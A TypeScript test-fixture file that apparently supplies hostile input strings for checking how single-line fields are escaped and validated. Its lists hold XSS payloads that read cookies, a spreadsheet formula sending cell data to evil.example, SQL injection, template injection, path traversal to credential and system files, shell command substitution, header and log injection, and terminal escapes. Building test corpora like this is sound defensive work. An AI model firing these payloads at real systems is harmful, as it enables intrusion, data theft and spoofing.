/** A tag that no page has. If it appears unescaped in HTML, a user's text was injected into the page. */
export const probeTag = "<probe-7c1";
const probe = `${probeTag} onload="alert(1)" title='x'>`;

/** Texts that broke other programs. All of them are valid in a single-line field. */
export const hostileLines = [
  probe,
  `"'></script></title></textarea></style>${probe}`,
  `</SCRIPT ><script>alert(document.cookie)</script>${probe}`,
  `<!--<script>${probe}`,
  `]]>${probe}`,
  `"><img src=x onerror=alert(1)>${probe}`,
  `javascript:alert(1)//${probe}`,
  `=HYPERLINK("https://evil.example/?"&A1;"open")${probe}`,
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "; DROP TABLE listing; --",
  `' OR '1'='1`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template is what some server might take it for
  "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "%0d%0aSet-Cookie: stolen=1",
  "%00",
  "$(touch /tmp/owned)`id`",
  "\u202Etxt.exe\u2066\u2028\u2029",
  "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}",
  "\uD800",
  "İıſK\uFB03",
  "constructor",
  "__proto__",
] as const;

/** Texts with characters that a single-line field may not contain. */
export const hostileControls = [
  "line\r\nBcc: everybody@example.com",
  '\n{"level":"error","event":"forged"}',
  "\u0000",
  "\u001b[2J\u001b]0;owned\u0007",
  "\u009b31m\u0085",
] as const;
